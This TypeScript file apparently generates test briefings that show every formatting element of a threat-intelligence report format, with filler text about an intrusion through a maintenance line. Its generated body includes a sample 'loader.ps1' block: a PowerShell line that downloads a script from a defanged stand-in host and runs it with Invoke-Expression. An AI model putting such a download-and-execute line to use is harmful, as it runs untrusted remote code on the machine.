import { writeBriefing } from '../briefing-folder.js'

type Language = 'ja' | 'en'

const drawing = (width: number) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${width} 200"><rect width="${width}" height="200" fill="#dce6f0"/><text x="20" y="40">図 Figure</text></svg>`

const words = {
  ja: {
    title: '全要素の見本',
    intro: '導入の文[^a]。',
    chapter: '保守用回線からの侵入と、その備え',
    point: '要点の**一つ**[^a]',
    text: '保守用の回線を経由した侵入が3月18日に見つかり、被害は1,400台に及ぶとされる',
    term: '用語',
    caption: '経過を示す図',
    remark: '※ 概略図であり、縮尺は正しくない。',
    heading: '侵入の経路',
    part: '【対象】',
    closing: '以上',
    level: '配布を限る語',
  },
  en: {
    title: 'A specimen of everything',
    intro: 'Opening words[^a].',
    chapter: 'An intrusion through a line kept for maintenance',
    point: '**one** key point[^a]',
    text: 'An intrusion through a line kept for maintenance was found on 18 March 2024 and took in 1,400 machines',
    term: 'Term',
    caption: 'What happened when',
    remark: 'A sketch, not to scale.',
    heading: 'How they came in',
    part: 'Targets',
    closing: 'The end.',
    level: 'words for few',
  },
}

function writeBody(language: Language): string {
  const { text, term, caption, remark, heading, part, closing, level } = words[language]
  const stop = language === 'ja' ? '。' : '.'
  const long = `${text}${stop} `.repeat(4).trim()
  return `## ${heading}

${text}[^a][^b]${stop} **${term}**, *${term}*, ~~${term}~~, \`code --option\`, <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <https://example.com/a/rather/long/address/without/a/place/to/break>, [link](https://example.com/), hxxps://evil[.]example/login, :tlp[${level}]{amber}. [](#drawn), [](#rows), [](#one), [](#loader), [${heading}](#${language === 'ja' ? heading : 'how-they-came-in'}).

### ${part}[^a]

- ${text}
  - ${text}
    1. ${term}
    2. ${term}[^c]
- **${term}**: ${text}
- [ ] ${term}
- [x] ${term}

1. ${text}

   ${text}
2. ${term}

> ${long}
>
> > ${text}

${['NOTE', 'TIP', 'IMPORTANT', 'WARNING', 'CAUTION'].map((kind) => `> [!${kind}]\n> ${text}[^c]${stop}`).join('\n\n')}

:::figure{#drawn}
![${caption}](wide.svg)

${caption}[^c]

${remark}
:::

![${caption}](small.svg "${caption}")

::::figures
:::figure{#one}
![${caption}](small.svg)

${caption}
:::
:::figure{#two}
![${caption}](small.svg)

${caption}
:::
::::

:::table{#rows}
${caption}

| ${term} | A | B | C | D | E | F | G |
|---|:-:|--:|---|---|---|---|---|
${Array.from({ length: 14 }, (_, row) => `| ${row + 1} | ${term} | 1,400 | ${text} | hxxp://evil[.]example/${row} | \`T1059.001\` | ${term}[^b] | ${term} |`).join('\n')}
:::

:::table{#turned landscape}
${caption}

| ${term} | A | B |
|---|---|---|
| ${text} | ${text} | ${text} |
:::

:::iocs{#loader}
${caption}

| type | value | first seen | note |
|---|---|---|---|
| sha256 | ${'5f'.repeat(32)} | 2024-03-02 | ${term}[^b] |
| domain | cdn-update[.]example | 2024-03-04 | C2 |
| ipv4 | 203[.]0[.]113[.]7 | 2024-03-05 | ${term} |
:::

T1059.001, T1566

:::attack{#techniques}
${caption}
:::

\`\`\`powershell title="loader.ps1" lines
# ${term}
$client = New-Object Net.WebClient
$client.DownloadString("hxxp://evil[.]example/a/rather/long/address/that/has/to/be/wrapped/somewhere") | Invoke-Expression -ErrorAction SilentlyContinue
\`\`\`

\`\`\`yaml
title: ${term}
level: high
\`\`\`

    indented code

<details><summary>${term}</summary>

${text}

</details>

<p align="center">${text}<br>${term}</p>

<table><tr><th>${term}</th></tr><tr><td>${text}</td></tr></table>

:::tlp{amber}
${text}${stop}
:::

---

#### ${term}

##### ${term}

###### ${term}

${language === 'ja' ? closing : text}

[^a]: ${language === 'ja' ? '出典：例 『題』' : 'Source: Example, “Title”'} <https://example.com/a/rather/long/address/without/a/place/to/break/in/it?a=1>
[^b]: ${long}
[^c]: ${text}

    - ${term}
    - ${term}

    \`\`\`sh
    curl -s https://example.com/
    \`\`\`
`
}

/** A briefing with every element of the source format, in a language and a layout. */
export function writeEverything(
  language: Language,
  layout: 'monthly' | 'commentary' = 'monthly',
): Promise<string> {
  const { title, intro, chapter, point, text } = words[language]
  const isMonthly = layout === 'monthly'
  const matter = `---
title: ${title}
subtitle: ${text}
layout: ${layout}
language: ${language}
${isMonthly ? 'period: "2024-03"\n' : ''}issued: 2024-04-10
version: "0.01"
classification: TLP:AMBER
publisher: Example Security
authors:
  - ${title}
contact:
  - Example Security
  - the security team
disclaimer: "${text}"
toc: true
---

`
  const note = '[^a]: Example <https://example.com/summary>\n'
  const summary = `:::summary\n- ${point}\n- ${text}\n:::\n\n`
  return writeBriefing({
    'briefing.md': matter + (isMonthly ? `${intro}\n\n${note}` : writeBody(language)),
    '01-chapter.md': isMonthly ? `# ${chapter}[^a]\n\n${summary}${writeBody(language)}` : null,
    'wide.svg': drawing(640),
    'small.svg': drawing(240),
  })
}
